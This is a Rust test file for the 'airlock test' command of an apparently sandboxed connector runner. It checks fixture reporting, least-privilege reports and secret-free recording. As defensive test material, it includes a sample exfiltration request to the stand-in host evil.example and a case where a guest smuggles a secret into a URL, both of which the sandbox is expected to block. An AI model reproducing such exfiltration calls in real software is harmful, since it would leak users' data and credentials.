//! `airlock test` through the binary: every example's fixture cases pass; cases that must fail
//! (an undeclared host, a request that never comes, a wrong output) fail with a readable
//! report; the privileges report names what a narrower run never used; `--record` writes what
//! a live run exchanged, with no secret in it, and the recording passes offline.

use std::path::Path;

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use serde_json::json;
use tempfile::TempDir;

use crate::egress::UPSTREAM_IP;
use crate::support::{
    airlock, airlock_with, custom_integration, dev_switches, example, examples, read_example,
    stderr, stdout,
};
use airlock_testkit::{Reply, TestCa, Upstream};

/// `airlock test ARGS…` with a data dir of its own; returns (exit code, stdout).
fn test(data: &Path, args: &[&str]) -> (Option<i32>, String) {
    // The tests' build script built every example: nothing to build again.
    let mut all = vec!["test", "--no-build"];
    all.extend(args);
    let out = airlock(data, &all);
    (out.status.code(), stdout(&out))
}

#[test]
fn every_example_passes_its_fixture_cases() {
    let data = TempDir::new().expect("temp");
    let mut tested = Vec::new();
    for entry in std::fs::read_dir(examples()).expect("examples") {
        let dir = entry.expect("entry").path();
        if !dir.join("airlock.toml").is_file() {
            continue;
        }
        let name = dir
            .file_name()
            .map(|n| n.to_string_lossy().into_owned())
            .unwrap_or_default();
        assert!(
            dir.join("tests").is_dir(),
            "{name} has no fixture cases (tests/*.toml)"
        );
        let (code, out) = test(data.path(), &[&dir.display().to_string()]);
        assert_eq!(code, Some(0), "{name}:\n{out}");
        assert!(out.contains("test result: ok."), "{name}:\n{out}");
        assert!(!out.contains(" 0 passed"), "{name} ran nothing:\n{out}");
        tested.push(name);
    }
    tested.sort();
    assert_eq!(
        tested,
        [
            "contact-mapper",
            "exfil",
            "github-issues",
            "hostile",
            "hostile-sockets",
            "hubspot-contacts",
            "slack-notifier"
        ]
    );
}

/// Asserts `out` shows every one of `lines`.
fn shows(out: &str, lines: &[&str]) {
    for line in lines {
        assert!(out.contains(line), "missing {line:?} in:\n{out}");
    }
}

/// The example `name` (component `wasm`) in a temp dir, with `fixture` as its only fixture
/// file.
fn example_with(name: &str, wasm: &str, fixture: &str) -> TempDir {
    let manifest = read_example(name, "airlock.toml").replace(
        &format!("component = \"../target/wasm32-wasip2/release/{wasm}\""),
        "component = \"component.wasm\"",
    );
    let dir = custom_integration(name, wasm, &manifest);
    std::fs::create_dir(dir.path().join("tests")).expect("tests dir");
    std::fs::write(dir.path().join("tests/cases.toml"), fixture).expect("fixture");
    dir
}

#[test]
fn failing_cases_fail_and_say_why() {
    let fixture = r#"
[[case]]
name = "a request that never comes"
action = "create"
input = { owner = "acme", repo = "widgets", title = "Bug" }
output = { number = 1, url = "https://github.com/acme/widgets/issues/1" }

  [[case.http]]
  method = "POST"
  url = "https://api.github.com/repos/acme/widgets/issues"
  json = { title = "Bug" }
  [case.http.response]
  status = 201
  json = { number = 1, html_url = "https://github.com/acme/widgets/issues/1" }

  [[case.http]]
  method = "POST"
  url = "https://api.github.com/repos/acme/widgets/labels"

[[case]]
name = "a wrong output"
action = "create"
input = { owner = "acme", repo = "widgets", title = "Bug" }
output = { number = 2, url = "https://github.com/acme/widgets/issues/2" }

  [[case.http]]
  method = "POST"
  url = "https://api.github.com/repos/acme/widgets/issues"
  headers = { authorization = "Bearer not-the-token" }
  [case.http.response]
  status = 201
  json = { number = 3, html_url = "https://github.com/acme/widgets/issues/3" }

[[case]]
name = "a near miss"
action = "create"
input = { owner = "acme", repo = "widgets", title = "Bug" }
output = { number = 5, url = "https://github.com/acme/widgets/issues/5" }

  [[case.http]]
  method = "POST"
  url = "https://api.github.com/repos/acme/widget/issues"

[[case]]
name = "a passing case"
action = "create"
input = { owner = "acme", repo = "widgets", title = "Bug" }
output = { number = 4, url = "https://github.com/acme/widgets/issues/4" }

  [[case.http]]
  method = "POST"
  url = "https://api.github.com/repos/acme/widgets/issues"
  [case.http.response]
  status = 201
  json = { number = 4, html_url = "https://github.com/acme/widgets/issues/4" }
"#;
    let dir = example_with("github-issues", "github_issues.wasm", fixture);
    let data = TempDir::new().expect("temp");
    let (code, out) = test(data.path(), &[&dir.path().display().to_string()]);
    assert_eq!(code, Some(1), "{out}");
    assert!(
        out.contains("test result: FAILED. 1 passed, 3 failed"),
        "{out}"
    );
    shows(
        &out,
        &[
            "case cases::a passing case ... ok",
            "case cases::a request that never comes ... FAILED",
            // The request that never comes.
            "expected request never happened: POST https://api.github.com/repos/acme/widgets/labels",
            // The wrong output, as a diff; and a header mismatch that never quotes the value sent.
            "output differs (- expected, + actual)",
            "-   \"number\": 2,",
            "+   \"number\": 3,",
            "header `authorization` is not the expected value (1 value(s) sent)",
            // A request nothing expects names the nearest one and what differs.
            "unexpected request: POST https://api.github.com/repos/acme/widgets/issues",
            "nearest expected: POST https://api.github.com/repos/acme/widget/issues; differs \
             (- expected, + actual): path /repos/acme/widget/issues (+ /repos/acme/widgets/issues)",
        ],
    );
    assert!(
        !out.contains("airlocktest"),
        "dummy credentials never show:\n{out}"
    );

    // A connector calling a host its manifest does not declare: the host refuses it, so the
    // exchange the fixture lists never happens and the case fails, saying why and naming the
    // hosts the rules do name (the trail keeps none of it).
    let undeclared = r#"
[[case]]
name = "an undeclared host"
action = "fetch"
input = { url = "https://evil.example/collect?d=1" }
output = { attempts = [{ url = "https://evil.example/collect?d=1", outcome = "ok 200" }], body = "" }

  [[case.http]]
  method = "GET"
  url = "https://evil.example/collect?d=1"
"#;
    let exfil = example_with("exfil", "exfil.wasm", undeclared);
    let (code, out) = test(data.path(), &[&exfil.path().display().to_string()]);
    assert_eq!(code, Some(1), "{out}");
    shows(
        &out,
        &[
            "case cases::an undeclared host ... FAILED",
            "+       \"outcome\": \"HttpRequestDenied\",",
            "expected request never happened: GET https://evil.example/collect?d=1",
            // The author's own run shows the URL and the rules it missed.
            "egress denied: GET https://evil.example/collect (no-matching-rule)",
            "  no rule names evil.example; the rules name api.allowed.test, echo.allowed.test,",
            "test result: FAILED. 0 passed, 1 failed",
        ],
    );

    // A fixture that is not one: a usage error naming the file and the case.
    std::fs::write(
        dir.path().join("tests/cases.toml"),
        "[[case]]\nname = \"x\"\naction = \"create\"\ninput = {}\noutput = {}\nerror = \"guest-error\"\n",
    )
    .expect("fixture");
    let (code, _) = test(data.path(), &[&dir.path().display().to_string()]);
    assert_eq!(code, Some(2));
    let out = airlock(data.path(), &["test", &dir.path().display().to_string()]);
    let err = stderr(&out);
    assert!(
        err.contains("cases.toml") && err.contains("expects both an output and an error"),
        "{err}"
    );
}

#[test]
fn the_privileges_report_names_what_was_never_used() {
    let data = TempDir::new().expect("temp");
    let dir = example("github-issues").display().to_string();
    let (code, out) = test(
        data.path(),
        &[&dir, "--case", "list-open skips", "--privileges"],
    );
    assert_eq!(code, Some(0), "{out}");
    shows(
        &out,
        &[
            "running 1 case(s)",
            "egress     GET,POST https://api.github.com/repos — used; never POST",
            "egress     GET https://api.github.com/repositories — UNUSED",
            "credential github (bearer) — used",
            "# removed, never used: https://api.github.com/repositories",
            "[[egress]]\nurl = \"https://api.github.com/repos\"\nmethods = [\"GET\"]\ncredential = \"github\"",
        ],
    );
    // A selection that names nothing is a mistake, not a pass.
    let (code, _) = test(data.path(), &[&dir, "--case", "no such case"]);
    assert_eq!(code, Some(2));
    // With every case, everything declared is used and nothing is cut.
    let (code, out) = test(data.path(), &[&dir, "--privileges"]);
    assert_eq!(code, Some(0), "{out}");
    assert!(!out.contains("UNUSED"), "{out}");
    assert!(!out.contains("# least privilege"), "{out}");
}

#[test]
fn a_recorded_case_holds_no_secret_and_passes_offline() {
    let ca = TestCa::new().expect("test CA");
    let secret = format!("recsecret{}", std::process::id());
    let key = format!("reckey{}", std::process::id());
    let (echo_secret, echo_key) = (secret.clone(), key.clone());
    // The "real" upstream: it echoes whatever credential it got, in a header and the body.
    let mock = Upstream::start(
        &ca,
        &["vault.allowed.test", "query.allowed.test"],
        UPSTREAM_IP,
        move |request| {
            let auth = request.header("authorization").join(",");
            let seen = format!("{auth} {}", request.path_and_query);
            assert!(
                seen.contains(&echo_secret) || seen.contains(&echo_key),
                "{seen}"
            );
            Reply::json(200, json!({"items": [1, 2], "you_sent": seen})).header("x-echo", &auth)
        },
    )
    .expect("upstream starts");
    let fixture = r#"# Recorded against the upstream; kept offline.
[[case]]
name = "vault items"
action = "fetch"
input = { url = "https://vault.allowed.test/items?page=1" }

[[case]]
name = "query items"
action = "fetch"
input = { url = "https://query.allowed.test/items" }
"#;
    let dir = example_with("exfil", "exfil.wasm", fixture);
    let data = TempDir::new().expect("temp");
    let keys = TempDir::new().expect("temp");
    let path = dir.path().display().to_string();
    let mut record = vec!["test".to_string(), path.clone(), "--record".into()];
    record.push("--no-build".into());
    record.extend(dev_switches(
        &[
            format!("vault.allowed.test={}", mock.addr()),
            format!("query.allowed.test={}", mock.addr()),
        ],
        &ca.write_pem(keys.path()).expect("CA written"),
    ));
    for (case, credential) in [("vault items", "token"), ("query items", "query-key")] {
        let mut args: Vec<&str> = record.iter().map(String::as_str).collect();
        let secret_arg = format!("{credential}=env:RECORD_SECRET");
        args.extend(["--case", case, "--secret", &secret_arg]);
        let value = if credential == "token" { &secret } else { &key };
        let out = airlock_with(data.path(), &args, "", &[("RECORD_SECRET", value)]);
        assert_eq!(
            out.status.code(),
            Some(0),
            "{}\n{}",
            stdout(&out),
            stderr(&out)
        );
        let shown = stdout(&out);
        assert!(shown.contains("1 exchange(s), outcome ok"), "{shown}");
        assert!(shown.contains("replayed offline: ok"), "{shown}");
    }
    assert_eq!(mock.requests().len(), 2);
    let recorded = std::fs::read_to_string(dir.path().join("tests/cases.toml")).expect("read");
    assert!(
        recorded.starts_with("# Recorded against the upstream"),
        "{recorded}"
    );
    for (form, what) in [
        (secret.clone(), "the token"),
        (key.clone(), "the query key"),
        (STANDARD.encode(&secret), "the token in base64"),
    ] {
        assert!(
            !recorded.contains(&form),
            "{what} is in the recording:\n{recorded}"
        );
    }
    // The query key stands in the URL as a placeholder, and the echoes read as redacted.
    assert!(
        recorded.contains("https://query.allowed.test/items?api_key={{credential.query-key}}"),
        "{recorded}"
    );
    assert!(recorded.contains("[REDACTED]"), "{recorded}");
    // The header credential's placement is asserted on replay; what differs on every response
    // (the date, the server's name) is not kept.
    assert!(
        recorded.contains(r#"headers = { authorization = "Bearer {{credential.token}}" }"#),
        "{recorded}"
    );
    assert!(!recorded.contains("date = "), "{recorded}");
    // With no upstream and no secret, the recorded cases pass on their own.
    let (code, out) = test(data.path(), &[&path]);
    assert_eq!(code, Some(0), "{out}\n{recorded}");
    assert!(out.contains("test result: ok. 2 passed, 0 failed"), "{out}");

    // A secret the host could not scrub (the guest puts it in the URL itself) is never
    // written: the recording is refused and the file left as it was.
    let leak = format!(
        "[[case]]\nname = \"leak\"\naction = \"fetch\"\ninput = {{ url = \"https://vault.allowed.test/x?c={secret}\" }}\n"
    );
    std::fs::write(dir.path().join("tests/cases.toml"), &leak).expect("fixture");
    let mut args: Vec<&str> = record.iter().map(String::as_str).collect();
    args.extend(["--case", "leak", "--secret", "token=env:RECORD_SECRET"]);
    let out = airlock_with(data.path(), &args, "", &[("RECORD_SECRET", &secret)]);
    assert_eq!(out.status.code(), Some(1), "{}", stdout(&out));
    assert!(
        stderr(&out).contains("nothing was written"),
        "{}",
        stderr(&out)
    );
    let after = std::fs::read_to_string(dir.path().join("tests/cases.toml")).expect("read");
    assert_eq!(after, leak);
}
